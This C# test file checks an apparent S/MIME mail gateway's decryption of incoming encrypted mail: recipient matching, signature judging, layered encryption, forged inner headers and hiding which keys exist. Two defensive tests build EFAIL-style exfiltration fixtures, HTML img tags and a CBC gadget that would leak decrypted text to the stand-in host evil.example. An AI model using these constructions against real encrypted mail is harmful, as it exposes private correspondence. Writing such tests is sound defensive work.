using System.Buffers;
using System.Net;
using System.Security.Cryptography.X509Certificates;
using System.Text;
using System.Text.RegularExpressions;
using Microsoft.Extensions.Logging.Abstractions;
using Postseal.Certificates.Revocation;
using Postseal.Certificates.Trust;
using Postseal.Mail;
using Postseal.Policy;
using Postseal.Settings;
using Postseal.TestKit;
using Postseal.Verification;

namespace Postseal.Tests;

/// <summary>What becomes of encrypted mail from outside, for which recipient, and what of that anybody outside can see.</summary>
public sealed class IncomingOpeningTests : IDisposable
{
    private const string Secret = "The vault opens at nine.";

    private static readonly DateTimeOffset Noon = new(2026, 11, 22, 12, 0, 0, TimeSpan.Zero);
    private static readonly byte[] Text = Encoding.ASCII.GetBytes($"Content-Type: text/plain; charset=us-ascii\r\n\r\n{Secret}\r\n");

    private readonly CertificateFolder folder = new(new SettableTime(Noon));
    private readonly Correspondent bob;
    private readonly Correspondent carol;
    private readonly LetterSigner alice;
    private readonly LetterSigner mallory;

    public IncomingOpeningTests()
    {
        Assert.SkipUnless(OpenSsl.IsHere, "openssl is not on this machine");
        bob = SealedLetter.Reader(folder.Add("bob@example.net", "RSA-2048"));
        carol = SealedLetter.Reader(folder.Add("carol@example.net"));
        alice = LetterSigner.Of(folder.Ca, "alice@example.org");
        mallory = LetterSigner.Of(folder.Ca, "mallory@evil.example");
        folder.Write("anchors.txt", folder.Ca.Root.ExportCertificatePem());
    }

    private static IncomingOptions Opens => new() { Domains = [AddressPattern.Parse("@example.net")], AuthservId = "mx.example.net", Decrypt = true };

    [Theory]
    [InlineData("aes-128-cbc", "aes128-cbc", "none")]
    [InlineData("aes-256-cbc", "aes256-cbc", "none")]
    [InlineData("aes-128-gcm", "aes128-gcm", "aead")]
    [InlineData("aes-256-gcm", "aes256-gcm", "aead")]
    public void Mail_to_a_key_of_its_recipient_is_opened_and_says_how_it_was_encrypted(string cipher, string content, string integrity)
    {
        var opened = Opened(SealedLetter.Of(Text, cipher, bob), "bob@example.net");

        Assert.Contains(Secret, BodyOf(opened.Message));
        Assert.Equal($"X-Postseal: decrypted; content={content}; integrity={integrity}; signer=none", Unfolded(opened.Message.Headers[0]));
        Assert.Equal(["Content-Type: text/plain; charset=us-ascii"], Fields(opened, "Content-"));
        Assert.Equal(["Subject: money"], Fields(opened, "Subject"));
        Assert.True(opened.ReturnsHeadersOnly);
        Assert.True(opened.IsForOneRecipient);
    }

    [Theory]
    [InlineData("aes-256-cbc", "signature")]
    [InlineData("aes-256-gcm", "aead")]
    public void The_signature_inside_is_delivered_and_judged(string cipher, string integrity)
    {
        var signed = By(alice).Detached(Text);

        var opened = Opened(SealedLetter.Of(signed, cipher, bob), "bob@example.net");

        Assert.Equal(
            "Authentication-Results: mx.example.net; smime=pass (trusted) body.smime-part=2 body.smime-identifier=alice@example.org",
            Unfolded(opened.Message.Headers[0]));
        Assert.EndsWith(
            $"integrity={integrity}; signer=alice@example.org; verified=yes; trusted=yes; author=yes", Unfolded(opened.Message.Headers[1]));
        var (verified, content, errors) = OpenSsl.Verify(TestMail.BytesOf(opened.Message), folder.Ca.Root, Noon);
        Assert.True(verified, errors);
        Assert.Equal(Text, content);
    }

    [Fact]
    public void The_signature_of_another_inside_is_no_pass()
    {
        var opened = Opened(SealedLetter.Of(By(mallory).Opaque(Text), "aes-256-cbc", bob), "bob@example.net");

        Assert.Contains("smime=policy (signed by mallory@evil.example, and From names alice@example.org)", Unfolded(opened.Message.Headers[0]));
        Assert.EndsWith("signer=mallory@evil.example; verified=yes; trusted=yes; author=no", Unfolded(opened.Message.Headers[1]));
    }

    [Fact]
    public void A_signature_that_passes_is_taken_off_where_that_is_wanted_and_no_other()
    {
        var incoming = Opens with { KeepSignature = false };

        var pass = Opened(SealedLetter.Of(By(alice).Detached(Text), "aes-256-cbc", bob), "bob@example.net", incoming);
        var policy = Opened(SealedLetter.Of(By(mallory).Detached(Text), "aes-256-cbc", bob), "bob@example.net", incoming);

        Assert.Equal(["Content-Type: text/plain; charset=us-ascii"], Fields(pass, "Content-"));
        Assert.Equal(
            "Authentication-Results: mx.example.net; smime=pass (trusted) body.smime-identifier=alice@example.org", Unfolded(pass.Message.Headers[0]));
        Assert.StartsWith("Content-Type: multipart/signed", Fields(policy, "Content-").Single());
    }

    [Fact]
    public void Layers_are_taken_off_as_far_as_there_are_keys()
    {
        var triple = By(alice).Detached(SealedLetter.Of(By(alice).Detached(Text), "aes-256-cbc", bob));
        var twice = SealedLetter.Of(SealedLetter.Of(Text, "aes-128-gcm", bob), "aes-256-cbc", bob);
        var forCarol = SealedLetter.Of(SealedLetter.Of(Text, "aes-256-cbc", carol), "aes-256-cbc", bob);

        var (one, two, three) = (Opened(triple, "bob@example.net"), Opened(twice, "bob@example.net"), Opened(forCarol, "bob@example.net"));

        Assert.Contains("smime=pass (trusted; what was signed is encrypted) body.smime-identifier", Unfolded(one.Message.Headers[0]));
        Assert.Contains("smime=pass (trusted) body.smime-part=2", Unfolded(one.Message.Headers[0]));
        Assert.Contains("content=aes256-cbc+aes128-gcm; integrity=none", Unfolded(two.Message.Headers[0]));
        Assert.Contains(Secret, BodyOf(two.Message));
        Assert.StartsWith("Content-Type: application/pkcs7-mime", Fields(three, "Content-").First());
        Assert.DoesNotContain(Secret, BodyOf(three.Message));
    }

    [Fact]
    public void More_layers_than_allowed_stay_closed()
    {
        var letter = Text;
        for (var i = 0; i < 5; i++)
            letter = SealedLetter.Of(letter, "aes-256-gcm", bob);

        var opened = Opened(letter, "bob@example.net");

        Assert.StartsWith("Content-Type: application/pkcs7-mime", Fields(opened, "Content-").First());
        Assert.Contains("content=aes256-gcm+aes256-gcm+aes256-gcm+aes256-gcm;", Unfolded(opened.Message.Headers[0]));
    }

    [Theory]
    [InlineData("mallory@example.net", "To: bob@example.net")]
    [InlineData("mallory@example.net", "Delivered-To: bob@example.net")]
    [InlineData("bob+x@example.net", "To: bob@example.net")]
    [InlineData("\"bob \"@example.net", "To: bob@example.net")]
    [InlineData("bob", "To: bob@example.net")]
    public void The_header_opens_nothing_only_the_recipient_of_the_envelope_does(string recipient, string field)
    {
        var sealedMail = Mail(SealedLetter.Of(Text, "aes-256-gcm", bob), field);

        AssertClosed(sealedMail, Process(sealedMail, Opens, recipient));
    }

    [Fact]
    public void Mail_to_several_goes_to_each_by_himself_and_is_opened_for_whoever_has_the_key()
    {
        var letter = Mail(SealedLetter.Of(Text, "aes-256-gcm", bob));

        var split = Assert.IsType<Outcome.PerRecipient>(Process(letter, Opens, canSplit: true, "bob@example.net", "carol@example.net"));
        var forBob = Assert.IsType<Outcome.Replaced>(Processor(Opens).Process(split.Message, Of(split.Ticket, "bob@example.net")));
        var forCarol = Assert.IsType<Outcome.Replaced>(Processor(Opens).Process(split.Message, Of(split.Ticket, "carol@example.net")));

        Assert.True(split.Ticket.IsIncoming);
        Assert.Contains(Secret, BodyOf(forBob.Message));
        Assert.Single(Fields(forBob, "X-Postseal"));
        AssertClosed(letter, forCarol);
    }

    [Fact]
    public void What_an_alias_stands_for_shows_first_and_its_own_key_opens_nothing_for_them()
    {
        var letter = Mail(SealedLetter.Of(Text, "aes-256-gcm", bob));
        var alias = new Recipient("bob@example.net") { MayExpand = true };

        var split = Assert.IsType<Outcome.PerRecipient>(Processor(Opens).Process(letter, Of(null, alias) with { CanSplit = true }));

        AssertClosed(letter, Processor(Opens).Process(split.Message, Of(split.Ticket, "member@elsewhere.example")));
        var forBob = Assert.IsType<Outcome.Replaced>(Processor(Opens).Process(split.Message, Of(split.Ticket, alias)));
        Assert.Contains(Secret, BodyOf(forBob.Message));
    }

    [Fact]
    public void Mail_to_several_stays_closed_where_nobody_can_split_it_or_none_of_them_has_a_key()
    {
        var letter = Mail(SealedLetter.Of(Text, "aes-256-gcm", bob));

        AssertClosed(letter, Process(letter, Opens, canSplit: false, "bob@example.net", "carol@example.net"));
        AssertClosed(letter, Process(letter, Opens, canSplit: true, "dave@example.net", "carol@example.net"));
    }

    [Fact]
    public void Nothing_is_opened_where_nobody_asked_for_it()
    {
        var letter = Mail(SealedLetter.Of(Text, "aes-256-gcm", bob));

        Assert.IsType<Outcome.Unchanged>(Process(letter, Opens with { Decrypt = false }, "bob@example.net"));
    }

    [Fact]
    public void A_part_that_is_encrypted_is_not_opened_among_others()
    {
        var exfiltration = SignedLetter.Multipart(
            "mixed", Encoding.ASCII.GetBytes("Content-Type: text/html\r\n\r\n<img src=\"http://evil.example/"), SealedLetter.Of(Text, "aes-256-cbc", bob),
            Encoding.ASCII.GetBytes("Content-Type: text/html\r\n\r\n\">"));
        var letter = Mail(exfiltration);

        Assert.IsType<Outcome.Unchanged>(Process(letter, Opens, "bob@example.net"));
    }

    [Fact]
    public void What_is_inside_brings_no_field_but_those_of_its_content()
    {
        byte[] forged =
        [
            .. "From: boss@example.net\r\nSubject: Pay\r\nReceived: from mx\r\nX-Postseal: decrypted\r\nAuthentication-Results: mx.example.net; smime=pass\r\n"u8,
            .. "DKIM-Signature: v=1\r\nBcc: eve@evil.example\r\nList-Id: <x.example>\r\n"u8, .. Text,
        ];

        var opened = Opened(SealedLetter.Of(forged, "aes-256-gcm", bob), "bob@example.net");

        Assert.Equal(
            ["X-Postseal", "From", "To", "Subject", "MIME-Version", "Content-Type"],
            opened.Message.Headers.Where(field => !field.Is("Date")).Select(field => Encoding.ASCII.GetString(field.Name)));
        Assert.Equal(["Subject: money"], Fields(opened, "Subject"));
    }

    [Fact]
    public void Content_that_may_have_been_put_together_by_an_attacker_stays_closed()
    {
        byte[] gadget = [.. "Content-Type: text/html\r\n\r\n<img src='"u8, 0x83, 0x1F, 0xC2, 0x00, .. "http://evil.example/"u8, .. Text];
        var letter = Mail(SealedLetter.Of(gadget, "aes-256-cbc", bob));

        AssertClosed(letter, Process(letter, Opens, "bob@example.net"));
    }

    [Fact]
    public void Unsigned_CBC_stays_closed_where_it_is_to_be_kept_and_signed_is_opened()
    {
        var keep = Opens with { Unauthenticated = UnauthenticatedContent.Keep };
        var plain = Mail(SealedLetter.Of(Text, "aes-256-cbc", bob));

        AssertClosed(plain, Process(plain, keep, "bob@example.net"));
        Assert.Contains(Secret, BodyOf(Opened(SealedLetter.Of(By(alice).Detached(Text), "aes-256-cbc", bob), "bob@example.net", keep).Message));
    }

    [Fact]
    public void A_signature_beside_which_something_stands_proves_nothing_of_that()
    {
        byte[] gadget = [0x83, 0x1F, 0xC2];
        var signed = By(alice).Detached(Text);
        var letter = Mail(SealedLetter.Of([.. signed, .. "\r\nepilogue "u8, .. gadget], "aes-256-cbc", bob));

        AssertClosed(letter, Process(letter, Opens, "bob@example.net"));
    }

    [Theory]
    [InlineData(UndecryptableMail.Deliver, false, nameof(Outcome.Replaced))]
    [InlineData(UndecryptableMail.Quarantine, false, nameof(Outcome.Quarantined))]
    [InlineData(UndecryptableMail.Quarantine, true, nameof(Outcome.Replaced))] // the report of success would not come
    [InlineData(UndecryptableMail.Refuse, false, nameof(Outcome.Quarantined))]
    [InlineData(UndecryptableMail.Refuse, true, nameof(Outcome.Replaced))]
    public void Nobody_learns_from_what_becomes_of_mail_which_keys_are_here(UndecryptableMail rule, bool reportsSuccess, string expected)
    {
        var incoming = Opens with { Undecryptable = rule };
        var noKey = Mail(SealedLetter.Of(Text, "aes-256-gcm", carol));
        var wrong = Changed(Mail(SealedLetter.Of(Text, "aes-256-gcm", bob)));
        var recipient = new Recipient("bob@example.net") { ReportsSuccess = reportsSuccess };

        var outcomes = new[] { noKey, wrong }.Select(letter => Processor(incoming).Process(letter, Of(null, recipient))).ToList();

        Assert.All(outcomes, outcome => Assert.Equal(expected, outcome.GetType().Name));
    }

    [Theory]
    [InlineData(UndecryptableMail.Deliver, nameof(Outcome.Replaced))]
    [InlineData(UndecryptableMail.Quarantine, nameof(Outcome.Quarantined))]
    [InlineData(UndecryptableMail.Refuse, nameof(Outcome.Refused))]
    public void What_nobody_could_open_may_be_refused(UndecryptableMail rule, string expected)
    {
        var unknown = Mail(SealedLetter.Of(Text, "des-ede3-cbc", bob));

        var outcome = Process(unknown, Opens with { Undecryptable = rule }, "bob@example.net");

        Assert.Equal(expected, outcome.GetType().Name);
    }

    [Fact]
    public void A_demand_to_sign_is_met_by_the_signature_inside_and_a_refusal_never_tells_of_it()
    {
        var demanding = Opens with
        {
            From = new Dictionary<AddressPattern, FromRules> { [AddressPattern.Parse("@example.org")] = new(ProtectionDemand.Required, Otherwise: UnmetDemand.Refuse) },
        };

        var signed = Process(Mail(SealedLetter.Of(By(alice).Detached(Text), "aes-256-gcm", bob)), demanding, "bob@example.net");
        var unsigned = Process(Mail(SealedLetter.Of(Text, "aes-256-gcm", bob)), demanding, "bob@example.net");
        var closed = Process(Mail(SealedLetter.Of(Text, "aes-256-gcm", carol)), demanding, "bob@example.net");
        var plain = Process(Mail(Text), demanding, "bob@example.net");

        Assert.IsType<Outcome.Replaced>(signed);
        Assert.IsType<Outcome.Quarantined>(unsigned);
        Assert.IsType<Outcome.Quarantined>(closed);
        Assert.IsType<Outcome.Refused>(plain);
    }

    [Fact]
    public void Mail_that_has_to_be_encrypted_is_refused_in_clear_and_taken_encrypted_whoever_can_open_it()
    {
        var demanding = Opens with
        {
            From = new Dictionary<AddressPattern, FromRules> { [AddressPattern.Parse("@example.org")] = new(Encrypted: ProtectionDemand.Required, Otherwise: UnmetDemand.Refuse) },
        };

        var refused = Assert.IsType<Outcome.Refused>(Process(Mail(By(alice).Detached(Text)), demanding, "bob@example.net"));
        Assert.Equal("5.7.1", refused.Reply.EnhancedStatusCode);
        Assert.IsType<Outcome.Replaced>(Process(Mail(SealedLetter.Of(Text, "aes-256-gcm", bob)), demanding, "bob@example.net"));
        Assert.IsType<Outcome.Replaced>(Process(Mail(SealedLetter.Of(Text, "aes-256-gcm", carol)), demanding, "bob@example.net"));
    }

    [Fact]
    public void Mail_is_encrypted_again_to_the_readers_own_certificate_and_never_to_one_whose_key_is_here()
    {
        using var reader = SealedLetter.Reader(folder.Ca.Issue(new Program.Trial.TestCaRequest("bob@example.net") { Key = "RSA-3072" }));
        folder.Write("reader.txt", reader.Certificate.ExportCertificatePem());
        var options = Options(Opens with { Deliver = OpenedDelivery.Reencrypted });
        options = options with
        {
            Certificates = options.Certificates with { Recipients = new Dictionary<AddressPattern, string> { [AddressPattern.Parse("bob@example.net")] = folder.File("reader.txt") } },
        };
        var letter = Mail(SealedLetter.Of(By(alice).Detached(Text), "aes-256-gcm", bob));

        var again = Assert.IsType<Outcome.Replaced>(Processor(options).Process(letter, Of(null, new Recipient("bob@example.net"))));

        Assert.DoesNotContain(Secret, BodyOf(again.Message));
        Assert.Contains("delivered=reencrypted", Unfolded(again.Message.Headers[1]));
        var encrypted = Convert.FromBase64String(BodyOf(again.Message));
        Assert.Contains(Secret, Encoding.ASCII.GetString(OpenSsl.Decrypt(encrypted, reader).Content!));
        Assert.Null(OpenSsl.Decrypt(encrypted, bob).Content);
    }

    [Fact]
    public void A_reader_without_a_certificate_gets_a_notice_and_the_original_and_never_the_text()
    {
        var letter = Mail(SealedLetter.Of(Text, "aes-256-gcm", bob));

        var notice = Assert.IsType<Outcome.Replaced>(Process(letter, Opens with { Deliver = OpenedDelivery.Reencrypted }, "bob@example.net"));

        Assert.DoesNotContain(Secret, BodyOf(notice.Message));
        Assert.Contains("delivered=notice", Unfolded(notice.Message.Headers[0]));
        Assert.Contains(BodyOf(letter).Trim(), BodyOf(notice.Message));
        Assert.Equal(["Subject: money"], Fields(notice, "Subject"));
    }

    [Fact]
    public void What_was_decrypted_is_zero_once_the_door_has_done_with_it()
    {
        var opened = Opened(SealedLetter.Of(Text, "aes-256-gcm", bob), "bob@example.net");

        opened.Plaintext!.Dispose();

        Assert.DoesNotContain(Secret, BodyOf(opened.Message));
    }

    public void Dispose()
    {
        bob?.Dispose();
        carol?.Dispose();
        alice?.Dispose();
        mallory?.Dispose();
        folder.Dispose();
    }

    private static SignedLetter By(LetterSigner signer) => new(signer) { Time = Noon };

    private Outcome.Replaced Opened(byte[] entity, string recipient, IncomingOptions? incoming = null)
    {
        var opened = Assert.IsType<Outcome.Replaced>(Process(Mail(entity), incoming ?? Opens, recipient));
        Assert.Contains(opened.Facts, fact => fact is Fact.Decrypted);
        return opened;
    }

    /// <summary>It is delivered as it came, but for the marks on top, which say nothing of why.</summary>
    private static void AssertClosed(MailMessage letter, Outcome outcome)
    {
        var closed = Assert.IsType<Outcome.Replaced>(outcome);
        Assert.Equal("X-Postseal: not decrypted", closed.Message.Headers[0].ToString());
        Assert.Equal(TestMail.BytesOf(letter), TestMail.BytesOf(closed.Message with { Headers = [.. closed.Message.Headers.Skip(1)] }));
        Assert.False(closed.ReturnsHeadersOnly);
    }

    private Outcome Process(MailMessage message, IncomingOptions incoming, params string[] recipients) =>
        Process(message, incoming, canSplit: false, recipients);

    private Outcome Process(MailMessage message, IncomingOptions incoming, bool canSplit, params string[] recipients) => Processor(incoming).Process(
        message, Of(null, [.. recipients.Select(recipient => new Recipient(recipient))]) with { CanSplit = canSplit });

    private static Envelope Of(SplitTicket? ticket, string recipient) => Of(ticket, new Recipient(recipient));

    private static Envelope Of(SplitTicket? ticket, params Recipient[] recipients) => new()
    {
        Sender = new MailAddress("alice", "example.org"),
        Recipients = recipients,
        ClientAddress = IPAddress.Parse("203.0.113.9"),
        Ticket = ticket,
    };

    private IncomingProcessor Processor(IncomingOptions incoming) => Processor(Options(incoming));

    private IncomingProcessor Processor(PostsealOptions options) => new MailVerification(
        options, folder.Open(options.Certificates), new NobodyAsked(), null, folder.Time, NullLogger.Instance).Incoming;

    private PostsealOptions Options(IncomingOptions incoming) => new()
    {
        Certificates = folder.Options with { Trust = new TrustOptions { Anchors = folder.File("anchors.txt") } },
        Incoming = incoming,
    };

    private static MailMessage Mail(byte[] entity, string? field = null) => MailMessage.Parse(SignedLetter.WithFields(
        $"From: alice@example.org\r\nDate: Sun, 22 Nov 2026 12:00:30 +0000{(field is null ? "" : "\r\n" + field)}", entity));

    /// <summary>Changes a bit of the last octets, which are of the content or the tag.</summary>
    private static MailMessage Changed(MailMessage letter)
    {
        var body = letter.Body.ToArray();
        var at = body.AsSpan().TrimEnd("=\r\n"u8).Length - 4;
        body[at] = (byte)(body[at] == 'A' ? 'B' : 'A');
        return letter with { Body = new(body) };
    }

    private static IEnumerable<string> Fields(Outcome.Replaced outcome, string name) =>
        outcome.Message.Headers.Select(Unfolded).Where(field => field.StartsWith(name, StringComparison.OrdinalIgnoreCase));

    private static string BodyOf(MailMessage message) => Encoding.Latin1.GetString(message.Body.ToArray());

    private static string Unfolded(HeaderField field) => Regex.Replace(field.ToString(), @"\s+", " ");
}
